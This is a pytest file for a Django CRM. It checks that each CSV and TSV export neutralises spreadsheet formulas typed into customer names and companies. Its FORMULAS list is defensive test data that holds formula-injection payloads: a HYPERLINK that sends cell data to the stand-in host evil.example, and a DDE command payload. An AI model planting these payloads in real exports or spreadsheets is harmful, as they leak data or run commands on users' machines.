"""Every CSV/TSV export defuses spreadsheet formulas typed into a customer's name or company.

One test per export, side by side, so a new export is easy to add here and hard to forget.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from everytouch.cli import main
from everytouch.customers.actions import CustomerData, create_customer
from everytouch.customers.models import Customer
from everytouch.followups.actions import record_commitment
from everytouch.leads.actions import LeadData, capture_lead

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]


def _customer(formula: str, owner: User | None = None) -> Customer:
    # The formula is both the name and the company: every export shows one or the other.
    return create_customer(CustomerData(formula, formula, "", owner, ["3125550101"]), None)


def _rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_defuses_formulas_in_the_customers_export_and_imports_them_back(
    formula: str, tmp_path: Path
) -> None:
    _customer(formula)
    out = tmp_path / "customers.csv"
    assert main(["export", "customers", "--output", str(out)]) == 0
    rows = _rows(out.read_text(encoding="utf-8"))
    assert rows[1][:3] == ["'" + formula, "'" + formula, "+13125550101"]
    Customer.objects.all().delete()
    assert main(["import", "customers", str(out)]) == 0
    assert Customer.objects.values_list("name", "company").get() == (formula, formula)


@pytest.mark.parametrize("fmt", ["csv", "table"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_it_defuses_formulas_in_the_leads_list(
    formula: str, fmt: str, rep: User, capsys: pytest.CaptureFixture[str]
) -> None:
    capture_lead(_customer(formula, rep), LeadData(need=formula), owner=rep, actor=None)
    assert main(["leads", "list", "--format", fmt]) == 0
    row = _rows(capsys.readouterr().out, "," if fmt == "csv" else "\t")[1]
    assert row[1:3] == ["'" + formula, "'" + formula]


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_defuses_formulas_in_the_promises_list(
    formula: str, rep: User, capsys: pytest.CaptureFixture[str]
) -> None:
    due = timezone.now() + timedelta(days=1)
    record_commitment(_customer(formula, rep), rep, formula, due, rep)
    assert main(["promises", "list", "--format", "csv"]) == 0
    assert _rows(capsys.readouterr().out)[1][1:3] == ["'" + formula, "'" + formula]


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_defuses_formulas_in_the_leads_web_export(
    formula: str, rep: User, client: Client
) -> None:
    capture_lead(_customer(formula, rep), LeadData(need=formula), owner=rep, actor=None)
    client.force_login(rep)
    rows = _rows(client.get(reverse("lead_export")).getvalue().decode())
    assert rows[1][3:8] == ["'" + formula, "'" + formula, "+13125550101", "", "'" + formula]


def test_it_keeps_a_plain_negative_number_and_a_written_phone_readable(
    rep: User, client: Client
) -> None:
    # A number stays a number a spreadsheet can sum; a phone written with spaces gets the
    # apostrophe, so it shows as typed instead of as an error (docs in spreadsheet.py).
    lead = LeadData(need="Call +1 555 0101", budget="-500", timeline="+1 555 0101")
    capture_lead(_customer("Jane Doe", rep), lead, owner=rep, actor=None)
    client.force_login(rep)
    row = _rows(client.get(reverse("lead_export")).getvalue().decode())[1]
    assert row[7] == "Call +1 555 0101"
    assert row[9:11] == ["-500", "'+1 555 0101"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_defuses_formulas_in_the_analyze_csv(
    formula: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    turns = [{"speaker": "agent", "text": "Acme, Dana speaking."}]
    (tmp_path / "call.json").write_text(json.dumps({"id": formula, "turns": turns}))
    assert main(["analyze", str(tmp_path), "--format", "csv"]) == 0
    assert _rows(capsys.readouterr().out)[1][0] == "'" + formula
